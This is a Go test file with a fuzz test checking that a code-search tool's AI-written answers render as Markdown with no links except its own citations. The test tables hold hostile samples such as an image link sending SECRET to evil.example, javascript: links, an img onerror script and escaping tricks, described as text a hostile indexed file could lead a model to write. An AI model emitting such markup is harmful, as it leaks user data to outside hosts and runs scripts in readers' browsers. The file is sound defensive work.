package ask_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"github.com/shoalsearch/shoal/node/ask"
)

// Answers contain what a hostile file could make a model write. Nothing of it is fetched, linked
// or run where it is shown.
func TestAnswerMarkdown_onlyCitationsAreLinks(t *testing.T) {
	t.Parallel()
	for given, want := range map[string]string{
		"![x](https://evil.example/?d=SECRET)": `!\[x\](https\://evil.example/?d=SECRET)`,
		"[click](javascript:alert(1))":         `\[click\](javascript:alert(1))`,
		"[a]: https://evil.example":            `\[a\]: https\://evil.example`,
		`\[a](https://evil.example)`:           `\[a\](https\://evil.example)`,
		"<img src=x onerror=alert(1)> a < b":   "&lt;img src=x onerror=alert(1)> a &lt; b",
		"see www.evil.example":                 `see www\.evil.example`,
		"code `a[0](b) <T>` stays":             "code `a[0](b) <T>` stays",
		"``a ` [b](c)`` [d](e)":                "``a ` [b](c)`` \\[d\\](e)",
		"open ` [b](c)\n":                      "open \\` \\[b\\](c)\n",
		"```go\nx := a[0](b)\n```\n[b](c)":     "```go\nx := a[0](b)\n```\n\\[b\\](c)",
		"~~~\n```\n[b](c)\n~~~\n[b](c)":        "~~~\n```\n[b](c)\n~~~\n\\[b\\](c)",
		"```` `x\n[b](c)":                      "\\`\\`\\`\\` \\`x\n\\[b\\](c)",
		"    ```\n[b](c)":                      "    \\`\\`\\`\n\\[b\\](c)",
	} {
		if got := ask.Markdown([]ask.Piece{{Text: given}}, ""); got != want {
			t.Errorf("%q:\n%s\nwant\n%s", given, got, want)
		}
	}
	evil := &ask.Citation{Repo: "a/b", Path: "x](http://evil.example) ![y](z).go", Commit: "c0", First: 1, Last: 1, State: ask.Cited}
	if got := ask.Markdown([]ask.Piece{{Text: "at \x00"}, {Cite: evil}}, "http://s"); strings.Contains(got, "](http://evil") || strings.Contains(got, "![") && !strings.Contains(got, `!\[`) {
		t.Errorf("%s", got)
	}
}

// hostile are texts that try to become a link, an image or a tag when rendered.
var hostile = []string{
	`\\[x\\](https://evil.example)`, `!\\[x\\](https://evil.example)`, `\\\[x](https://evil.example)`,
	"[x][a]\n\n[a]: https://evil.example", "\\\\[a]: https://evil.example\n\n\\\\[a]",
	"<https://evil.example>", `\<https://evil.example>`, `\\<b onclick="x">`, "<div>\n[x](https://evil.example)",
	"https://evil.example", `https\\://evil.example`, "_https://evil.example_", "www.evil.example", "_WWW.evil.example_", `www\\.evil.example`,
	"me@evil.example", "mailto:me@evil.example", `me\\@evil.example`, "ftp://evil.example",
	"&#91;x](https://evil.example)", "&lt;https://evil.example>", "&#104;ttps://evil.example",
	"\\`[x](https://evil.example)`", "\\\\`a` [x](https://evil.example)",
	"~~~ a`b\ncode\n~~~\n[x](https://evil.example)", "```\na\n```\u3000\n```\n[x](https://evil.example)",
	"- a\n  ```\n[x](https://evil.example)", "- a\n  ```\n     ```\n  [x](https://evil.example)", "1. a\n   ~~~\n~~~\n[x](https://evil.example)",
	"|a|b|\n|-|-|\n|`c|[x](https://evil.example)`|", "a\r[x](https://evil.example)",
	"end \\", "end \\\\", "!", "https:", "https:/", "ww", "me@", "https", "- a\n  ```\n  ",
}

// Hostile text is rendered before and after citations.
func TestAnswerMarkdown_rendersNoHostileLink(t *testing.T) {
	t.Parallel()
	for _, one := range hostile {
		onlyCited(t, one, "", "a.go")
		for _, path := range []string{"w.evil.example", "//evil.example", `\\evil.example`, "www.evil.example", "me@evil.example", "~~~", "a`b", "evil.example"} {
			onlyCited(t, one, "\n~~~\n[x](https://evil.example)", path)
		}
	}
}

// FuzzAnswerMarkdown_rendersNoLink renders any text before and after a citation.
func FuzzAnswerMarkdown_rendersNoLink(f *testing.F) {
	for _, one := range hostile {
		f.Add(one, one, "a.go")
	}
	f.Fuzz(onlyCited)
}

// onlyCited fails if a rendered answer has an image, a tag, or a link that is not the citation's.
func onlyCited(t *testing.T, before, behind, path string) {
	t.Helper()
	for _, state := range []ask.CiteState{ask.Cited, ask.Unverified} {
		cite := &ask.Citation{Repo: "a/b", Path: path, Commit: "c0", State: state}
		source := []byte(ask.Markdown([]ask.Piece{{Text: before}, {Cite: cite}, {Text: behind}}, "http://s"))
		tree := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(text.NewReader(source))

		err := ast.Walk(tree, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			switch n := n.(type) {
			case *ast.Link:
				if !bytes.HasPrefix(n.Destination, []byte("http://s/")) {
					t.Errorf("%q, %q, %q: link to %s in\n%s", before, behind, path, n.Destination, source)
				}
			case *ast.AutoLink:
				t.Errorf("%q, %q, %q: address %s in\n%s", before, behind, path, n.URL(source), source)
			case *ast.Image, *ast.RawHTML, *ast.HTMLBlock:
				t.Errorf("%q, %q, %q: %s in\n%s", before, behind, path, n.Kind(), source)
			}
			return ast.WalkContinue, nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
}
